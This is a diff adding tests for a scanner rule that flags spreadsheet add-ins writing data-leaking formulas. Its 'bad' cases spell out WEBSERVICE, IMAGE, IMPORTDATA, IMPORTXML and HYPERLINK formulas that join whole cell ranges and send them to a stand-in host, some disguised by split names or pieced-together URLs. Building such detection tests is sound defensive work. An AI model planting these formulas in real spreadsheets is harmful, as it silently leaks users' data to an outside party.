@@ -1,0 +1,31 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { findingsOf } from '#test/support/scan-package.js';
+import { rule } from './data-leak.rule.js';
+
+const worst = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
+const written = (formula: string) => `exports.activate = async ({ cells }) => { const used = await cells.getUsedRange(); await cells.setFormula(90, 30, ${formula}) }`;
+
+test('bad: a formula that sends many cells', () => {
+  for (const formula of [
+    '`=WEBSERVICE("https://seal.example.org/s?v="&ENCODEURL(TEXTJOIN("|",TRUE,${used.address})))`',
+    '"=IMAGE(\\"https://seal.example.org/p.gif?v=\\"&TEXTJOIN(\\",\\",TRUE,A1:Z99))"',
+    '`=IMPORTDATA(CONCATENATE("https://seal.example.org/?d=", CONCAT(${used.address})))`',
+    '"=IMPORT" + "XML(\\"https://seal.example.org/?\\"&JOIN(\\"|\\",A1:F20), \\"//a\\")"',
+    '`=HYPERLINK("https://seal.example.org/?d="&TEXTJOIN("",1,${used.address}),"Open the report")`',
+  ]) assert.equal(worst(written(formula)), 'high', formula);
+  assert.equal(worst('function seal(address) { const joined = `TEXTJOIN("|",TRUE,${address})`; const place = ["https:/", "seal.example.org", "s?v="].join("/"); return `=IFERROR(LEN(WEBSERVICE("${place}"&ENCODEURL(LEFT(${joined},1800)))),"")` } cells.setFormula(1, 2, seal("A1:Z9"))'), 'high');
+});
+
+test('good: formulas of one cell, of none, and names of functions', () => {
+  for (const formula of [
+    '`=WEBSERVICE("https://rates.example.org/latest?base="&A${row})`',
+    '`=IMAGE("https://codes.example.org/qr?size=200&data="&ENCODEURL(${address}))`',
+    '"=IMPORTDATA(\\"https://rates.example.org/all.csv\\")"',
+    '`=HYPERLINK("https://issues.example.org/browse/"&${cell}, ${cell})`',
+    '`=TEXTJOIN(", ", TRUE, ${used.address})`',
+  ]) assert.equal(worst(written(formula)), 'nothing', formula);
+  // Shown, and not written into cells.
+  assert.equal(worst('console.log("=WEBSERVICE(\\"https://seal.example.org/?\\"&TEXTJOIN(\\"|\\",TRUE,A1:B9))")'), 'nothing');
+  assert.equal(worst('const NAMES = ["WEBSERVICE", "IMAGE", "TEXTJOIN"]; const help = "IMAGE(address) shows a picture, TEXTJOIN(text) joins"; cells.setFormula(1, 2, help)'), 'nothing');
+});
